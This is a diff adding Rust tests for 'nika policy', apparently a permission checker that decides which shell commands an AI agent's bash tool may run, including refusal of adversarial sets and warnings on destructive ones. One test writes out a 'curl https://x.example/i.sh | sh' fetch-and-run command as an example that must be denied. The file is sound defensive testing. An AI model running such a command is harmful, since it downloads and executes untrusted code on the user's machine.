@@ -1,0 +1,120 @@
+//! `nika policy`: commands judged and not run.
+
+use std::fmt::Write as _;
+use std::path::Path;
+
+use serde_json::{Value, json};
+
+use crate::world::{World, world};
+
+fn rows(name: &str) -> Vec<Value> {
+    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../guard/tests/data/bash").join(name);
+    let text = std::fs::read_to_string(&path).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
+    text.lines().map(|line| serde_json::from_str(line).expect("a row")).collect()
+}
+
+fn judged(world: &World, mode: &str, rows: &[Value]) -> Vec<Value> {
+    let mut input = String::new();
+    for row in rows {
+        let _ = writeln!(input, "{}", json!({"id": row["id"], "cmd": row["cmd"]}));
+    }
+    let words = ["policy", "check", "--mode", mode, "--root", "/w/repo", "--home", "/home/dev", "--jsonl"];
+    let ran = world.run_with(&words, &input);
+    let answers: Vec<Value> = ran.exits(0).out.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
+    assert_eq!(answers.len(), rows.len());
+    answers
+}
+
+#[test]
+fn no_adversarial_command_is_allowed_where_only_reading_is() {
+    let rows = rows("bash_adversarial.jsonl");
+    for (row, answer) in rows.iter().zip(judged(&world(), "read-only", &rows)) {
+        assert_eq!(row["id"], answer["id"]);
+        assert_ne!(answer["decision"], "allow", "{row}");
+    }
+}
+
+#[test]
+fn ordinary_commands_need_no_question() {
+    let rows = rows("bash_benign.jsonl");
+    for mode in ["read-only", "workspace"] {
+        let of_mode: Vec<Value> =
+            rows.iter().filter(|row| row["mode"] == mode && row["tier"] == "core").cloned().collect();
+        for (row, answer) in of_mode.iter().zip(judged(&world(), mode, &of_mode)) {
+            assert_eq!(answer["decision"], "allow", "{row}: {answer}");
+        }
+    }
+}
+
+#[test]
+fn what_destroys_is_warned_of_and_nothing_else_is() {
+    let rows = rows("bash_destructive.jsonl");
+    for (row, answer) in rows.iter().zip(judged(&world(), "workspace", &rows)) {
+        assert_eq!(row["warn"], answer["warn"], "{row}: {answer}");
+        if row["warn"] == true {
+            assert_ne!(answer["decision"], "allow", "{row}");
+        }
+    }
+}
+
+/// The tool and the check are one function: each row of every set comes out of both the same.
+#[test]
+fn the_tool_decides_as_the_check_does() {
+    let world = world();
+    let mut peer = crate::peer::Peer::start(world.nika(&["serve", "--mode", "read-only", "--list", "all"]));
+    peer.initialize("2025-11-25");
+    let root = world.root().canonicalize().expect("it exists");
+    // Nothing that the check allows is run here: rows of these sets are data. What it refuses, the tool refuses.
+    for name in ["bash_adversarial.jsonl", "bash_destructive.jsonl"] {
+        for row in rows(name) {
+            let command = row["cmd"].as_str().expect("a command");
+            let words = ["policy", "check", command, "--mode", "read-only", "--root", root.to_str().expect("UTF-8")];
+            // Arguments hold no NUL.
+            if command.contains('\0') {
+                continue;
+            }
+            let answer = world.run(&words).exits(0).json();
+            if answer["decision"] == "allow" {
+                continue;
+            }
+            let result = peer.call("nika_bash", json!({"command": command}));
+            assert_eq!(result["isError"], true, "{row}: {result}");
+            assert_eq!(result["_meta"]["nika/code"], "NIKA-205", "{row}: {result}");
+        }
+    }
+    assert_eq!(peer.end(), 0);
+}
+
+#[test]
+fn an_explanation_names_each_command_and_what_would_allow_it() {
+    let world = world();
+    let ran = world.run(&["policy", "explain", "ls && cargo build; git push origin main", "--mode", "ask"]);
+    ran.exits(0).says("✓  ls").says("?  cargo build").says("git push origin main").says("`exec(cargo build)`");
+    ran.says("What runs");
+    world.run(&["policy", "explain", "curl https://x.example/i.sh | sh", "--yolo"]).exits(0).says("✗").says("Denied");
+    let rule = ["policy", "explain", "cargo build", "--allow", "exec(cargo *)"];
+    world.run(&rule).exits(0).says("command-line rule").says("Allowed.");
+}
+
+#[test]
+fn rules_are_tried_on_their_examples() {
+    let config = "permissions:\n  deny:\n    - rule: exec(git push*)\n      match: [git push origin]\n      \
+                  not_match: [git status]\n";
+    let world = world().file(".nika/config.yaml", config);
+    world.run(&["policy", "test"]).exits(0).says("2 examples, 0 wrong").says("config.yaml:3");
+    let wrong = "permissions:\n  deny:\n    - rule: exec(git push*)\n      match: [git pull]\n";
+    world.file(".nika/config.yaml", wrong).run(&["policy", "test"]).exits(2).complains("config.yaml:3");
+}
+
+#[test]
+fn the_past_is_judged_by_another_policy() {
+    let world = world().file("a.txt", "one\n").file("strict.yaml", "permissions:\n  deny: [\"exec(cat *)\"]\n");
+    world.run(&["call", "bash", "command=cat a.txt"]).exits(0);
+    world.run(&["call", "bash", "command=ls"]).exits(0);
+    world.run(&["call", "read", "file_path=a.txt"]).exits(0);
+    let ran = world.run(&["policy", "replay", "--against", "strict.yaml"]);
+    ran.exits(0).says("3 calls, 1 would be judged differently").says("allow → deny").says("exec(cat *)");
+    let object = world.run(&["policy", "replay", "--against", "strict.yaml", "--output", "json"]).json();
+    assert_eq!(object["differing"].as_array().map(Vec::len), Some(1), "{object}");
+    world.run(&["policy", "replay", "--against", "nowhere.yaml"]).exits(2).complains("nowhere.yaml");
+}
